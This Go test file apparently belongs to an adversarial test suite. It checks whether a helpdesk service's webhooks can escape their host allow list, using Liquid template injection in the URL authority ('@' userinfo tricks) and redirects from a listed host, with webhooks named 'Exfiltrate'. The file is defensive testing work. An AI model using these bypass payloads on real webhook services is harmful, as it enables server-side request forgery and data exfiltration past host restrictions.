package adversarial

import (
	"fmt"
	"net/http"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// bypassHostList is an HR admin of issue 16, item 4: secure's webhooks may only
// call the hosts on its list, and the admin tries to reach another one through
// Liquid in the URL's authority and through a redirect from a listed host.
func bypassHostList(t *testing.T, r *rig) {
	std := r.std.Addr
	t.Run("liquid in the authority", func(t *testing.T) {
		for _, endpoint := range []string{
			"http://" + std + `{{ "@` + r.target.addr + `" }}/x`,
			"http://" + std + "{{ '@" + r.target.addr + "' }}/x",
			`http://{{ "` + r.target.addr + `" }}/x`,
			"http://" + std + `{{ ":1@` + r.target.addr + `" }}/x`,
			"http://" + r.target.addr + "/x",
		} {
			r.fireSecureWebhook(t, endpoint, false)
		}
		assert.Empty(t, r.target.requests(), "secure called a host off its list")
	})
	t.Run("redirect from a listed host", func(t *testing.T) {
		before := len(r.redirect.requests())
		r.fireSecureWebhook(t, r.redirect.url()+"/hook", true)
		ok := eventually(t, 20*time.Second, "redirector called", func() bool { return len(r.redirect.requests()) > before })
		require.True(t, ok, "secure never called the listed redirector: the attack was not tried")
		time.Sleep(2 * time.Second) // room for a redirect that should not be followed
		assert.Empty(t, r.target.requests(), "secure followed a redirect off its list")
	})
	legitimateEscalation(t, r)
}

// fireSecureWebhook saves a webhook to endpoint on secure as its admin, with a
// trigger that calls it on tickets with a tag of its own, and creates such a
// ticket as an HR agent. A refusal at save is fine unless mustSave; the trigger
// is deleted afterwards so later tickets don't fire it.
func (r *rig) fireSecureWebhook(t *testing.T, endpoint string, mustSave bool) {
	res := r.secAdmin.do(t, "POST", "/webhooks", map[string]any{"webhook": map[string]any{
		"name": "Exfiltrate " + canary("wh"), "endpoint": endpoint, "http_method": "POST", "request_format": "json",
		"status": "active", "subscriptions": []string{"conditional_ticket_events"}}})
	if !mustSave && res.code == http.StatusUnprocessableEntity {
		t.Logf("refused at save: %s: %s", endpoint, truncate(string(res.raw), 200))
		return
	}
	require.Equal(t, http.StatusCreated, res.code, "webhook %s: %s", endpoint, res)
	hook := fmt.Sprint(res.obj["webhook"].(map[string]any)["id"])
	tag := canary("probe")
	res = r.secAdmin.do(t, "POST", "/triggers.json", map[string]any{"trigger": map[string]any{
		"title": "Exfiltrate " + tag,
		"conditions": map[string]any{"all": []map[string]any{
			{"field": "update_type", "operator": "is", "value": "Create"},
			{"field": "current_tags", "operator": "includes", "value": tag}}},
		"actions": []map[string]any{{"field": "notification_webhook", "value": []string{hook, `{"id": "{{ticket.id}}"}`}}}}})
	if !mustSave && res.code == http.StatusUnprocessableEntity {
		t.Logf("trigger refused at save: %s: %s", endpoint, truncate(string(res.raw), 200))
		return
	}
	require.Equal(t, http.StatusCreated, res.code, "trigger for %s: %s", endpoint, res)
	trigger := idOf(res.obj["trigger"])
	t.Cleanup(func() { r.secAdmin.do(t, "DELETE", fmt.Sprintf("/triggers/%d.json", trigger), nil) })
	r.hrAgent.createTicket(t, map[string]any{"subject": "Probe", "comment": map[string]any{"body": "probe"}, "tags": []string{tag}})
	r.waitTried(t, r.secAdmin, hook)
}

// waitTried waits until a webhook has a delivery that was tried at least once
// or ended, or 10 s pass.
func (r *rig) waitTried(t *testing.T, admin api, hook string) {
	eventually(t, 10*time.Second, "delivery tried", func() bool {
		list, _ := admin.must(t, "GET", "/webhooks/"+hook+"/invocations", nil)["invocations"].([]any)
		for _, d := range list {
			d := d.(map[string]any)
			if n, _ := d["attempts"].(float64); n > 0 || d["latest_completion_status"] == "failed" {
				t.Logf("webhook %s: delivery %v, error %v", hook, d["latest_completion_status"], d["error"])
				return true
			}
		}
		return false
	})
}
